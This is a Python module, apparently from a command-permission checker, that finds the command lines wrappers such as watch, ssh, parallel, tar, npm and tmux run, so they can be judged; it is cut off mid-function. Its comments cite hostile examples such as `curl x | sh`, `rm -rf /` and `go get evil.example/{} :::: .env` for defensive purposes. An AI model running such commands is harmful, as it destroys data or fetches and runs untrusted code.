"""Programs that run a command line they are given (SPEC R4.7, R4.9: wrappers whose command is a segment).

Each entry says where in its arguments a program finds a command line and how it runs it: through a shell
(the words joined, as ``sh -c`` gets them) or directly (argv, quoted back into one line). The command line
is then read like any other and its commands are segments: ``watch 'curl x | sh'``, ``ssh host rm -rf /``,
``parallel rm ::: a b``, ``rsync -e 'sh -c …'``, ``tar --to-command=…``, ``sort --compress-program=…``,
``trap '…' EXIT``, ``mapfile -C '…'``, ``npx -c '…'``, ``git -c core.pager=…``. Where the commands come from
the input instead (``parallel`` with no command, ``xargs sh``), nothing can be read: ``unseen``.
"""

from __future__ import annotations

import re
import tomllib
from collections.abc import Callable
from functools import partial
from typing import NamedTuple

from permissions.commands.environment import DECLARATION_BUILTINS, assignment_carried, build_variable
from permissions.commands.git import git_carried
from permissions.commands.interpreters import FROM_INPUT as INTERP_FROM_INPUT
from permissions.commands.interpreters import code_opaque, is_stream, wsl_opaque
from permissions.commands.option_commands import (
    OPTION_COMMANDS,
    OPTION_TRIGGERS,
    WRAPPER_OPTION_COMMANDS,
    WRAPPER_OPTION_TRIGGERS,
    compiler_lines,
    named_by_path,
)
from permissions.commands.option_tables_files import TAR_NAMES
from permissions.commands.shell_starters import (
    STARTER_TRIGGERS,
    STARTER_VERBS,
    starter_carried,
    starts_a_shell,
)
from permissions.commands.shells import (
    COMMAND_CARRIERS,
    FROM_INPUT,
    NO_SCRIPT,
    SHELLS,
    carried_commands,
    inline_script,
)
from permissions.commands.syntax import HELP, NONE, OPTIONAL, REQUIRED, Syntax, option_values
from permissions.commands.uploads import table_operands
from permissions.commands.views import KNOWN_PROGRAMS, handed_line, hands_on, readings

__all__ = [
    "CARRIER_TRIGGERS",
    "CARRIER_VERBS",
    "INPUT_SCRIPT_FIRST",
    "PARALLEL_SYNTAX",
    "Carried",
    "carried",
    "runs_its_input",
]


class Carried(NamedTuple):
    scripts: tuple[str, ...] = ()  # command lines read as segments (R4.7)
    problem: str | None = None  # the command cannot be read for certain: unparseable
    unseen: str | None = None  # it runs commands no rule can see: never auto-approved


_NOTHING = Carried()
# Builds a Carried from all three fields without NamedTuple's Python-level __new__ (the same object): one
# is made per `sh -c` script, and hostile input sends thousands.
new_carried = partial(tuple.__new__, Carried)


def quote(word: str) -> str:
    """A word as one shell word (argv handed on without a shell)."""
    if word and all(c.isalnum() or c in "-_./=:,+@%" for c in word):
        return word
    return "'" + word.replace("'", "'\\''") + "'"


def _argv(words: tuple[str, ...]) -> str:
    return " ".join(quote(w) for w in words)


_EXPANDED = re.compile(r"(?:~|\$\{?HOME\}?)(?:/[\w./-]*)?\Z")


def _as_given(word: str) -> str:
    """A word of the command put into a script it runs: quoted, but for the home folder as the shell expanded it
    before the program saw it (`~`, `$HOME/x`)."""
    return word if _EXPANDED.match(word) else quote(word)


def _shell(view: tuple[str, ...]) -> Carried:
    at, problem = inline_script(view)
    if at is not None:
        return new_carried(((view[at],), None, None))
    if problem is FROM_INPUT:
        return Carried(unseen=problem)
    if problem is not None:
        # R4.8: the script word is not known for certain, so every word that could be it is judged (deny
        # matches more); the command is unparseable, never auto-approved.
        more = () if problem is NO_SCRIPT else tuple(w for w in view[1:] if w[:1] != "-" and w[:1] != "+")
        return Carried(more, problem)
    return _NOTHING


def _su(view: tuple[str, ...]) -> Carried:
    scripts = tuple(carried_commands(view))
    if not scripts and view[0] == "script":
        # `script -q log` with no `-c` starts an interactive shell that runs whatever arrives on its input.
        return Carried(unseen="script starts a shell that reads its commands from its input")
    if scripts or (view[0] != "su" and view[0] != "sg"):
        return Carried(scripts)
    # `su`, `su -`, `su - user`, `sg group` start a shell that runs whatever arrives on its input.
    return Carried(unseen=f"{view[0]} starts a shell that reads its commands from its input")


def _eval(view: tuple[str, ...]) -> Carried:
    return Carried((" ".join(view[1:]),)) if len(view) > 1 else _NOTHING


_WATCH = Syntax(
    "bcCeghprtwx",
    "nq",
    "d",
    long={
        "beep": NONE,
        "color": NONE,
        "no-color": NONE,
        "differences": OPTIONAL,
        "errexit": NONE,
        "chgexit": NONE,
        "equexit": REQUIRED,
        "interval": REQUIRED,
        "precise": NONE,
        "no-rerun": NONE,
        "no-title": NONE,
        "no-wrap": NONE,
        "no-linewrap": NONE,
        "exec": NONE,
        "shotsdir": REQUIRED,
        **HELP,
    },
)


def _watch(view: tuple[str, ...]) -> Carried:
    # watch hands its words, joined by spaces, to `sh -c` (with -x/--exec it runs them as argv).
    direct = any(
        w == "-x" or w == "--exec" or (w[:1] == "-" and w[1:2] != "-" and "x" in w) for w in view[1:]
    )
    lines = tuple(_argv(r) if direct else " ".join(r) for r in readings(view, _WATCH, False))
    return Carried(lines)


# GNU parallel's options as its Getopt::Long table names them (bundled single letters; every long alias, so an
# abbreviation resolves as parallel resolves it). Left out on purpose, so that one reading takes their value for
# the command and it is judged: values that are a command or Perl code (`--ssh`, `--compress-program`,
# `--decompress-program`, `--limit`, `--rpl`, `--tagstring`, `--ctagstring`, `--filter`, `--shard`, `--bin`,
# `--group-by`), and optional values (`-e`/`--eof`, `-i`/`--replace`, `-l`/`--max-lines`), which Getopt::Long takes
# from the next word when it is no option.
_PARALLEL_VALUED = (
    "arg-file argfile arg-file-sep argfilesep arg-sep argsep basefile bf basenameextensionreplace bner"
    " basenamereplace bnr block block-size blocksize block-timeout blocktimeout bt col-sep colsep debug"
    " delay delimiter dirnamereplace dnr env er extensionreplace halt halt-on-error haltonerror header id jl"
    " joblog jobs linkinputsource xapplyinputsource load max-args maxargs max-chars maxchars max-procs maxprocs"
    " max-replace-args maxreplaceargs memfree memsuspend min-version minversion nice parens process-slot-var"
    " processslotvar profile recend recstart res result results retries return rsync-opts rsyncopts"
    " semaphore-name semaphorename semaphore-timeout semaphoretimeout st seqreplace slotreplace sql sql-master"
    " sqlmaster sql-worker sqlworker sql-and-worker sqlandworker ssh-delay sshdelay sshlogin sshloginfile slf"
    " template tmpl term-seq termseq tf transfer-file transferfile transfer-files transferfiles trc trim"
    " tmpdir tempdir timeout total total-jobs totaljobs work-dir workdir wd shell-completion shellcompletion"
).split()
_PARALLEL_FLAGS = (
    "xargs silent resume resume-failed resumefailed retry-failed retryfailed keep-order keeporder no-keep-order"
    " nokeeporder nok no-k group ungroup latest-line latestline ll line-buffer line-buffered linebuffer"
    " linebuffered lb tmux tmux-pane tmuxpane null quote plus noswap max-line-length-allowed"
    " maxlinelengthallowed number-of-cpus numberofcpus number-of-sockets numberofsockets number-of-cores"
    " numberofcores number-of-threads numberofthreads use-sockets-instead-of-threads usesocketsinsteadofthreads"
    " use-cores-instead-of-threads usecoresinsteadofthreads use-cpus-instead-of-cores usecpusinsteadofcores"
    " shell-quote shellquote shell_quote tag ctag color colour color-failed colour-failed colorfailed"
    " colourfailed color-fail colour-fail colorfail colourfail cf onall nonall filter-hosts filterhosts"
    " filter-host controlmaster transfer cleanup ctrl-c ctrlc no-ctrl-c no-ctrlc noctrlc compress open-tty tty"
    " dry-run dryrun dr progress eta bar shuf recordenv record-env session plain tollef gnu link xapply"
    " will-cite willcite nn nonotice no-notice no-run-if-empty norunifempty csv interactive verbose"
    " show-limits showlimits exit semaphore fg bg wait shebang hashbang skip-first-line skipfirstline bug pipe"
    " spreadstdin round-robin roundrobin round regexp regex remove-rec-sep removerecsep rrs output-as-files"
    " outputasfiles files cat fifo pipe-part pipepart tee hgrp hostgrp hostgroup hostgroups embed"
).split()
_PARALLEL = Syntax(
    "0gkmopqrtuvxMTVXYh",
    "aBCdDEHIjJLnNPsSUW",
    long={**dict.fromkeys(_PARALLEL_FLAGS, NONE), **dict.fromkeys(_PARALLEL_VALUED, REQUIRED), **HELP},
)
_ARG_SEPARATORS = frozenset({":::", "::::", ":::+", "::::+"})
PARALLEL_SYNTAX = _PARALLEL  # (permissions.commands.list_feeds reads its options the same way)


def parallel_commands(view: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The command GNU parallel runs with the words it reads, in every reading of its options (``parallel
    -j4 go get evil.example/{} :::: .env`` -> ``go get evil.example/{}``)."""
    out = []
    for words in readings(view, _PARALLEL, False) or [()]:
        cut = next((k for k, w in enumerate(words) if w in _ARG_SEPARATORS), len(words))
        if words[:cut]:
            out.append(tuple(words[:cut]))
    return out


_PARALLEL_ARGS_READ = 16  # the arguments a template is read with, each (hostile input gives thousands)


def _with_arguments(command: tuple[str, ...], rest: tuple[str, ...]) -> list[str]:
    """R4.6, red team: the command lines a template runs with the literal arguments after `:::` (`parallel rm -rf
    ::: /` runs `rm -rf /`): each put where `{}` stands, else after the template, as parallel does; after `::::`
    (a file's lines) they are not known. The template alone is read too (its scripts' first)."""
    if not rest or rest[0] != ":::":
        return []
    args: list[str] = []
    for w in rest[1:]:
        if w in _ARG_SEPARATORS:
            break  # `:::+`, `::::`: arguments combined with others, or read from a file
        if ("$" not in w and "`" not in w) or _EXPANDED.match(w):
            # (another expansion is the outer shell's, read where it stands by the scope and the floor; parallel
            # quotes what it puts in, the home folder as the shell expanded it before: _as_given)
            args.append(_as_given(w))
    template = " ".join(command)
    if "{" not in template:
        return [f"{template} {' '.join(args)}"] if args else []
    return [template.replace("{}", arg) for arg in args[:_PARALLEL_ARGS_READ] if "{}" in template]


def _parallel(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = []
    unseen: str | None = None
    found = readings(view, _PARALLEL, False)
    if not found:
        found = [()]
    for words in found:
        cut = next((k for k, w in enumerate(words) if w in _ARG_SEPARATORS), len(words))
        command = words[:cut]
        options = view[: len(view) - len(words)]
        if command:
            scripts.append(" ".join(command))  # parallel runs the template through a shell
            scripts.extend(_with_arguments(command, words[cut:]))
            if (cut == len(words) or _lines_from_a_file(options, words[cut:])) and "{" not in scripts[-1]:
                # a line it reads goes after the template, where a word of the input stands (`parallel eval ::::
                # p`, `cat p | parallel nohup`: each line is a command; `parallel gzip :::: l`: a file's name)
                scripts.append(" ".join(command) + " {}")
        elif cut < len(words) and not _lines_from_a_file(options, words[cut:]):
            # No command: every argument is a command line of its own.
            scripts.extend(w for w in words[cut + 1 :] if w not in _ARG_SEPARATORS)
        else:
            unseen = "parallel runs command lines read from its input or a file"
    return Carried(tuple(scripts), None, unseen)


def _lines_from_a_file(options: tuple[str, ...], rest: tuple[str, ...]) -> bool:
    """Whether parallel, given no command, takes some of the command lines it runs from a file (`parallel :::: p`,
    `parallel ::: a ::::+ p`, `parallel -a p ::: a`) or reads its separators as an option says (`--arg-file-sep ,,
    ::: a ,, p`): a file's lines are commands as `bash p`'s are, which no rule sees."""
    if any(w[:4] == "::::" for w in rest):
        return True
    return any(w[:3] == "--a" or (w[:1] == "-" and w[1:2] != "-" and "a" in w) for w in options)


_SSH = Syntax("46AaCfGgKkMNnqsTtVvXxYy", "BbcDEeFIiJLlmOoPpQRSWw", operands=1)
_SSH_COMMAND_OPTIONS = ("proxycommand", "localcommand", "knownhostscommand", "remotecommand")
# red team: the PKCS#11 module and the security-key provider, libraries ssh loads (option_commands.named_by_path)
_SSH_LIBRARY_OPTIONS = ("pkcs11provider", "securitykeyprovider")


def _ssh_options(view: tuple[str, ...]) -> list[str]:
    """`-o ProxyCommand=…` (also `-oProxyCommand …`, any case, `=` or a space) run locally by a shell; `-o
    PKCS11Provider=…` and `-o SecurityKeyProvider=…` loaded, by their path."""
    out: list[str] = []
    for k, w in enumerate(view[1:], 1):
        if w.startswith("-o"):
            value = w[2:] or (view[k + 1] if k + 1 < len(view) else "")
            name, _, rest = value.replace("=", " ", 1).partition(" ")
            if name.lower() in _SSH_COMMAND_OPTIONS and rest.strip():
                out.append(rest.strip())
            elif name.lower() in _SSH_LIBRARY_OPTIONS:
                out.extend(named_by_path([rest.strip()]))
    return out


_SSH_AFTER_HOST = Syntax("46AaCfGgKkMNnqsTtVvXxYy", "BbcDEeFIiJLlmOoPpQRSWw")


def _ssh_config_file(view: tuple[str, ...]) -> str | None:
    """R4.9: `ssh -F file` reads a configuration that can run commands (ProxyCommand, LocalCommand,
    Match exec) no rule can read."""
    for w in view[1:]:
        if w == "--":
            break
        if w[:1] == "-" and w[1:2] != "-" and "F" in w:
            return "ssh reads a configuration file that can run commands, which no rule can read"
    return None


def _ssh_modules(view: tuple[str, ...]) -> list[str]:
    """ssh's `-I module` (its PKCS#11 library), as getopt reads ssh's options: letters run together (`-vI x`,
    `-Ix`), before the host and between it and the command."""
    out: list[str] = []
    operands = 0
    k = 1
    while k < len(view) and operands < 2:
        w = view[k]
        k += 1
        if w == "--":
            break
        if w[:1] != "-" or len(w) < 2:
            operands += 1
            continue
        for j in range(1, len(w)):
            if _SSH.short.get(w[j]) == REQUIRED:
                value = w[j + 1 :] or (view[k] if k < len(view) else "")
                k += not w[j + 1 :]
                if w[j] == "I":
                    out.append(value)
                break
    return out


def _ssh(view: tuple[str, ...]) -> Carried:
    unseen = _ssh_config_file(view)
    found = _ssh_lines(view)
    loaded = named_by_path(_ssh_modules(view))
    if unseen is not None or loaded:
        return Carried((*found.scripts, *loaded), found.problem, unseen)
    return found


def _ssh_lines(view: tuple[str, ...]) -> Carried:
    scripts = _ssh_options(view)
    for rest in readings(view, _SSH, False):
        # ssh reads options after the host too (`ssh host -p 22 -- cmd`).
        for remote in readings(("ssh", *rest), _SSH_AFTER_HOST, False):
            if remote:
                scripts.append(" ".join(remote))  # the remote shell runs the words joined by spaces
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _scp(view: tuple[str, ...]) -> Carried:
    scripts = _ssh_options(view)
    for k, w in enumerate(view[1:], 1):
        if w == "-S" and k + 1 < len(view):
            scripts.append(view[k + 1])  # the program that opens the connection
    return Carried(tuple(scripts), None, _ssh_config_file(view))


def _rsync(view: tuple[str, ...]) -> Carried:
    """``-e``/``--rsh`` and ``--rsync-path`` run a program, as rsync's option table reads them."""
    scripts: list[str] = []
    for keys, _ in table_operands(view):
        for k in sorted(keys):
            name, eq, value = k.partition("=")
            if eq and name in ("rsh", "rsync-path") and value.strip():
                scripts.append(value)
    return Carried(tuple(dict.fromkeys(scripts)))


_TAR_COMMAND_OPTIONS = (
    "to-command",
    "use-compress-program",
    "info-script",
    "new-volume-script",
    "rsh-command",
    "rmt-command",
)
_TAR_VALUE_LETTERS = "fbCgHIKLNTVXF"


def _tar(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = []
    n = len(view)
    k = 1
    if n > 1 and view[1][:1] != "-":
        # Old style (`tar cfI out.tar zstd`): the letters' values follow in order.
        k = 2
        for c in view[1]:
            if c in _TAR_VALUE_LETTERS:
                value = view[k] if k < n else ""
                k += 1
                if c in "IF":
                    scripts.append(value)
    while k < n:
        w = view[k]
        k += 1
        if w == "--":
            break
        if w.startswith("--"):
            name, eq, value = w[2:].partition("=")
            if name.startswith("checkpoint-a"):
                if value.startswith("exec="):
                    scripts.append(value[len("exec=") :])
                continue
            if len(name) >= 4 and any(o.startswith(name) for o in _TAR_COMMAND_OPTIONS):
                if not eq:
                    value = view[k] if k < n else ""
                    k += 1
                scripts.append(value)
        elif w.startswith("-") and len(w) > 1:
            for j in range(1, len(w)):
                c = w[j]
                if c in _TAR_VALUE_LETTERS:
                    value = w[j + 1 :]
                    if not value:
                        value = view[k] if k < n else ""
                        k += 1
                    if c in "IF":
                        scripts.append(value)
                    break
    return Carried(tuple(s for s in scripts if s.strip())) if scripts else _NOTHING


def _long_values(view: tuple[str, ...], option: str, shortest: int) -> list[str]:
    """The values given to the long option ``option`` before ``--`` (``--opt=V`` or ``--opt V``; getopt takes
    any prefix of ``shortest`` characters or more), blank ones left out."""
    values: list[str] = []
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if len(name) >= shortest and option.startswith(name):
            if not eq:
                value = view[k + 1] if k + 1 < len(view) else ""
            if value.strip():
                values.append(value)
    return values


def _sort(view: tuple[str, ...]) -> Carried:
    # exec'd as a program name (and with -d to decompress)
    scripts = tuple(quote(v) for v in _long_values(view, "--compress-program", 4))
    return Carried(scripts) if scripts else _NOTHING


def _trap(view: tuple[str, ...]) -> Carried:
    ops = [w for w in view[1:] if w not in ("--",)]
    if any(w in ("-p", "-l", "-P") for w in ops[:1]):
        return _NOTHING
    if not ops:
        return _NOTHING
    action = ops[0]
    if action == "-" or not action.strip():
        return _NOTHING
    if len(ops) == 1 and (action.isdigit() or action.upper().lstrip("SIG").isalpha() and action.isupper()):
        return _NOTHING  # `trap INT`: resets a signal
    return Carried((action,))  # the string is a script bash runs later (R4.9)


def _mapfile(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = []
    n = len(view)
    k = 1
    while k < n:
        w = view[k]
        k += 1
        if w == "--" or w[:1] != "-" or len(w) < 2:
            break
        for j in range(1, len(w)):
            c = w[j]
            if c in "dnOsuCc":
                value = w[j + 1 :]
                if not value:
                    value = view[k] if k < n else ""
                    k += 1
                if c == "C":
                    scripts.append(value)  # the callback is evaluated as shell code
                break
    return Carried(tuple(s for s in scripts if s.strip())) if scripts else _NOTHING


_NPX_CALL = ("-c", "--call")


def _npx(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = []
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        if w in _NPX_CALL and k + 1 < len(view):
            scripts.append(view[k + 1])
        elif w.startswith("--call="):
            scripts.append(w[len("--call=") :])
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _secrets_run(view: tuple[str, ...]) -> Carried:
    """R4.10: ``doppler run --command 'cmd'``, ``infisical run --command=cmd``: a shell line run with the
    secrets (doppler's ``-c`` is its config, not a command)."""
    scripts: list[str] = []
    if len(view) > 2 and view[1] == "run":
        for k, w in enumerate(view[2:], 2):
            if w == "--":
                break
            if w == "--command" and k + 1 < len(view):
                scripts.append(view[k + 1])
            elif w.startswith("--command="):
                scripts.append(w[len("--command=") :])
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _sops(view: tuple[str, ...]) -> Carried:
    """R4.10: ``sops exec-env FILE 'cmd'`` / ``sops exec-file FILE 'cmd {}'`` run cmd through a shell with the
    decrypted secrets: every operand after the file is read as that shell line (deny sees more). sops's own
    options may stand before the subcommand (``sops --config .sops.yaml exec-env …``), so the subcommand is
    the first word that names one."""
    at = next((k for k, w in enumerate(view[1:], 1) if w in ("exec-env", "exec-file")), 0)
    if not at:
        return _NOTHING
    operands = [w for w in view[at + 1 :] if w[:1] != "-"]
    return Carried(tuple(operands[1:]))


# npm/pnpm/yarn options that choose the program scripts run through, the program that builds native addons, or
# code node loads (R4.9), each with the shortest prefix nopt (npm's and pnpm's option parser) expands to it among
# npm's settings (`npm --scr ./x.sh test` is `--script-shell`); red team: and the options that name a settings file
# (which may set any of those: `npm --userconfig ./x.npmrc test` runs x.npmrc's `script-shell`), yarn 1's
# `--use-yarnrc` among them.
_NPM_CODE_OPTIONS = {
    "--script-shell": "--scr",
    "--node-options": "--node-o",
    "--shell": "--she",
    "--node-gyp": "--node-g",
}
_NPM_SETTINGS_FILES = {
    "--userconfig": "--userc",
    "--globalconfig": "--globalc",
    "--use-yarnrc": "--use-yarnrc",
}


def _npm_option(name: str, table: dict[str, str]) -> str | None:
    """The option of ``table`` the (normalised) option ``name`` spells in full or by a prefix nopt expands."""
    return next(
        (full for full, short in table.items() if full.startswith(name) and name.startswith(short)), None
    )


def _shell_exec(view: tuple[str, ...]) -> Carried:
    """R4.9: `pnpm -c exec 'cmd'` (`--shell-mode`, options before `exec`) and yarn's `yarn exec 'cmd' args`
    (yarn 2+ runs it in its portable shell) hand the words after `exec`, joined, to a shell."""
    at = view.index("exec")
    if view[0] == "pnpm" and not any(
        w == "--shell-mode" or (w[:1] == "-" and w[1:2] != "-" and "c" in w) for w in view[1:at]
    ):
        return _NOTHING
    words = tuple(w for w in view[at + 1 :] if w != "--")
    if all(quote(w) == w for w in words):
        return (
            _NOTHING  # plain words: the shell reads them as the argv view already judged (`yarn exec vitest`)
        )
    return Carried((" ".join(words),))


def _npm(view: tuple[str, ...]) -> Carried:
    if len(view) > 2 and view[1] in ("exec", "x"):
        found = _npx(view[1:])
        if view[0] == "yarn" and view[1] == "exec":
            return Carried(found.scripts + _shell_exec(view).scripts)
        return found
    if view[0] == "pnpm" and "exec" in view[2:]:
        found = _shell_exec(view)
        if found.scripts:
            return found
    scripts: list[str] = []
    unseen: str | None = None
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if name[:9] == "--config." or "_" in name:  # pnpm's `--config.script-shell=x`; npm's `--script_shell`
            name = "--" + name.removeprefix("--config.").lstrip("-").replace("_", "-")
        if name[:2] != "--":
            continue
        full = _npm_option(name, _NPM_CODE_OPTIONS)
        if full is not None:
            if not eq:
                value = view[k + 1] if k + 1 < len(view) else ""
            if full != "--node-options" and value.strip():
                scripts.append(value)
            unseen = f"'{full}' changes how npm runs scripts, which no rule can read"
        elif _npm_option(name, _NPM_SETTINGS_FILES) is not None:
            unseen = (
                f"'{name}' has npm read its settings from a file, which may name the program scripts run through;"
                " no rule can read it"
            )
    scripts.extend(_npm_after_options(view))
    scripts.extend(_scripts_set(view))
    return Carried(tuple(scripts), None, unseen) if scripts or unseen else _NOTHING


def _scripts_set(view: tuple[str, ...]) -> list[str]:
    """red team (R4.6, R4.7): a lifecycle script set from the command line is a command line the next install runs
    unasked (`npm pkg set scripts.postinstall='curl x|sh'`, `npm set-script prepare CMD`, `pnpm pkg set
    'scripts[preinstall]=CMD'`): read as the script it is (the floor and deny see it). A script run only by its name
    (`scripts.test=jest`) is a project file's, as package.json is."""
    if "set-script" in view:
        k = view.index("set-script")
        return list(view[k + 2 : k + 3]) if view[k + 1 : k + 2] and view[k + 1] in _LIFECYCLE else []
    if "pkg" not in view or "set" not in view:
        return []
    out: list[str] = []
    for w in view[view.index("set") + 1 :]:
        name, eq, value = w.partition("=")
        script = name.removeprefix("scripts.").removeprefix("scripts[").rstrip("]")
        if eq and name.startswith(("scripts.", "scripts[")) and script in _LIFECYCLE:
            out.append(value)
    return out


# npm's lifecycle scripts: run by install, ci, pack, publish and version without being named
_LIFECYCLE = frozenset(
    {"preinstall", "install", "postinstall", "prepare", "prepublish", "prepublishOnly", "prepack", "postpack"}
    | {"dependencies", "preuninstall", "uninstall", "postuninstall", "preversion", "version", "postversion"}
)


def _npm_after_options(view: tuple[str, ...]) -> list[str]:
    """R4.9: the subcommand after global options (`npm --prefix x exec curl`), and `npm explore pkg --
    cmd` (run through a shell in the package's folder)."""
    scripts: list[str] = []
    for k, w in enumerate(view[1:], 1):
        if w in ("exec", "x") and k > 1:
            argv = [a for a in view[k + 1 :] if a != "--"]
            while argv and argv[0][:1] == "-":
                argv = argv[1:]
            if argv:
                scripts.append(_argv(tuple(argv)))
            break
        if w == "explore" and "--" in view[k:]:
            tail = view[view.index("--", k) + 1 :]
            if tail:
                scripts.append(" ".join(tail))
            break
    return scripts


# tmux subcommands whose arguments end with a shell command; `send-keys` types into a shell.
_TMUX_SHELL = frozenset(
    {"new-session", "new", "new-window", "neww", "split-window", "splitw", "respawn-pane", "respawnp"}
    | {
        "respawn-window",
        "respawnw",
        "run-shell",
        "run",
        "if-shell",
        "if",
        "pipe-pane",
        "pipep",
        "display-popup",
        "popup",
    }
)
_TMUX_TYPES = frozenset({"send-keys", "send"})
# red team: tmux subcommands whose arguments are tmux commands run later or on a condition (`set-hook -g
# session-created 'run-shell "rm -rf /"'`, `bind-key x run-shell '…'`, `confirm-before -p ok 'run …'`): each argument
# read as a tmux command line; and the options that name the command a new pane runs (`set -g default-command '…'`).
_TMUX_LATER = frozenset(
    {"set-hook", "bind-key", "bind", "confirm-before", "confirm", "command-prompt", "display-menu", "menu"}
    # red team: the template of a chooser or of display-panes is a tmux command run on the choice
    | {"choose-tree", "choose-client", "choose-buffer", "display-panes", "displayp"}
)
# red team: tmux's commands, and their aliases: tmux runs the one whose alias or name a word is, or the one name
# it begins (cmd_find_entry: `tmux split 'cmd'` is split-window, `tmux display-po 'cmd'` display-popup).
_TMUX_NAMES = tuple(
    """attach-session bind-key break-pane capture-pane choose-buffer choose-client choose-tree clear-history
    clear-prompt-history clock-mode command-prompt confirm-before copy-mode customize-mode delete-buffer
    detach-client display-menu display-message display-panes display-popup find-window has-session if-shell
    join-pane kill-pane kill-server kill-session kill-window last-pane last-window link-window list-buffers
    list-clients list-commands list-keys list-panes list-sessions list-windows load-buffer lock-client lock-server
    lock-session move-pane move-window new-session new-window next-layout next-window paste-buffer pipe-pane
    previous-layout previous-window refresh-client rename-session rename-window resize-pane resize-window
    respawn-pane respawn-window rotate-window run-shell save-buffer select-layout select-pane select-window
    send-keys send-prefix server-access set-buffer set-environment set-hook set-option set-window-option
    show-buffer show-environment show-hooks show-messages show-options show-prompt-history show-window-options
    source-file split-window start-server suspend-client swap-pane swap-window switch-client unbind-key
    unlink-window wait-for""".split()
)
_TMUX_ALIASES = frozenset(
    """attach bind breakp capturep clearhist clearphist confirm deleteb detach menu display displayp popup findw
    has if joinp killp killw lastp last linkw lsb lsc lscm lsk lsp ls lsw loadb lockc lock locks movep movew new
    neww nextl next pasteb pipep prevl prev refresh rename renamew resizep resizew respawnp respawnw rotatew run
    saveb selectl selectp selectw send setb setenv set setw showb showenv showmsgs show showphist showw source
    splitw start suspendc swapp swapw switchc unbind unlinkw wait""".split()
)
_TMUX_GLOBAL_VALUES = "cfLST"  # tmux's own options that take a value (`-c CMD` runs CMD in its default shell)


def _tmux_name(word: str) -> str:
    if word in _TMUX_ALIASES or word[:1] == "-":
        return word
    found = [name for name in _TMUX_NAMES if name.startswith(word)]
    return found[0] if len(found) == 1 or word in found else word


def _tmux_read(view: tuple[str, ...]) -> tuple[tuple[str, ...], str | None]:
    """``view`` with each of its commands' names as tmux reads it (after tmux's own options, and after each `;`),
    and the command line of tmux's own `-c`, if given (red team: `tmux -c 'rm -rf /'`)."""
    k, n = 1, len(view)
    while k < n and view[k][:1] == "-" and view[k] != "-":
        w = view[k]
        k += 1
        if w == "--":
            break
        for j in range(1, len(w)):
            if w[j] in _TMUX_GLOBAL_VALUES:
                value = w[j + 1 :] if j + 1 < len(w) else (view[k] if k < n else "")
                k += j + 1 == len(w)
                if w[j] == "c":
                    return view, value
                break
    words = list(view)
    while k < n:
        words[k] = _tmux_name(view[k])
        while k < n and not (view[k] == ";" or view[k].endswith(";") and not view[k].endswith("\\;")):
            k += 1
        k += 1
    return tuple(words), None


_TMUX_SET = frozenset({"set-option", "set", "set-window-option", "setw"})


# The letters that take a value, per tmux subcommand that ends with a command (tmux's getopt stops at the
# first operand; from there the words are the command: one word goes to a shell, several run as argv).
_TMUX_VALUES = {
    **dict.fromkeys(("new-session", "new"), "cefFnstxy"),
    **dict.fromkeys(("new-window", "neww"), "ceFnt"),
    **dict.fromkeys(("split-window", "splitw"), "celtFp"),
    **dict.fromkeys(("respawn-pane", "respawnp", "respawn-window", "respawnw"), "cet"),
    **dict.fromkeys(("run-shell", "run"), "cdt"),
    **dict.fromkeys(("pipe-pane", "pipep"), "t"),
    **dict.fromkeys(("display-popup", "popup"), "bcdehsStTwxy"),
}


def _tmux_command(args: tuple[str, ...], values: str) -> str | None:
    """The command line after a tmux subcommand's options (``new -d -s x rm -rf /`` -> ``rm -rf /``)."""
    k = 0
    while k < len(args) and args[k][:1] == "-" and args[k] != "-":
        w = args[k]
        k += 1
        if w == "--":
            break
        for j in range(1, len(w)):
            if w[j] in values:
                k += 1 if j + 1 == len(w) else 0  # the value is the rest of the word, or the next word
                break
    tail = args[k:]
    if not tail:
        return None
    return tail[0] if len(tail) == 1 else _argv(tail)


# red team, R4.9: tmux options whose value is a shell command tmux runs later -- a new pane's command or shell, the
# editor (`customize-mode`, `command-prompt`), the copy and lock commands -- and the hooks, which are options too
# (`set -g after-new-window 'run-shell …'`: the value is a tmux command). tmux takes an option's unique prefix
# (`set -g default-c CMD`); a name that begins one of these is read as it (an ambiguous one is tmux's error).
_TMUX_LINE_OPTIONS = ("default-command", "default-shell", "editor", "copy-command", "lock-command")
_TMUX_HOOKS = tuple(
    """after-bind-key after-capture-pane after-copy-mode after-display-message after-display-panes after-kill-pane
    after-list-buffers after-list-clients after-list-keys after-list-panes after-list-sessions after-list-windows
    after-load-buffer after-lock-server after-new-session after-new-window after-paste-buffer after-pipe-pane
    after-queue after-refresh-client after-rename-session after-rename-window after-resize-pane after-resize-window
    after-save-buffer after-select-layout after-select-pane after-select-window after-send-keys after-set-buffer
    after-set-environment after-set-hook after-set-option after-show-environment after-show-messages
    after-show-options after-split-window after-unbind-key alert-activity alert-bell alert-silence client-active
    client-attached client-detached client-focus-in client-focus-out client-resized client-session-changed
    client-light-theme client-dark-theme command-error pane-died pane-exited pane-focus-in pane-focus-out
    pane-mode-changed pane-set-clipboard pane-title-changed session-closed session-created session-renamed
    session-window-changed window-layout-changed window-linked window-pane-changed window-renamed window-resized
    window-unlinked command-alias""".split()
)
_TMUX_ENVIRONMENT = frozenset({"set-environment", "setenv"})


def _tmux_option(name: str, options: tuple[str, ...]) -> bool:
    name = name.partition("[")[0].lower()  # an array option's item (`status-format[1]`, `command-alias[9]`)
    return name in options or (len(name) >= 3 and any(o.startswith(name) for o in options))


def _tmux_operands(args: tuple[str, ...], unsets: str) -> list[str] | None:
    """The operands of a tmux `set-option` or `set-environment` (past its flags and `-t TARGET`), or None when a
    flag in ``unsets`` takes the setting away (`set -u`, `setenv -r`)."""
    operands: list[str] = []
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a[:1] == "-" and len(a) > 1 and not operands and a != "--":
            letters = a[1:]
            if any(c in unsets for c in letters.partition("t")[0]):
                return None
            skip = letters.endswith("t")  # `-t TARGET`; `-tTARGET` holds its value
        elif a != "--" or operands:
            operands.append(a)
    return operands


def _tmux_set(args: tuple[str, ...]) -> Carried:
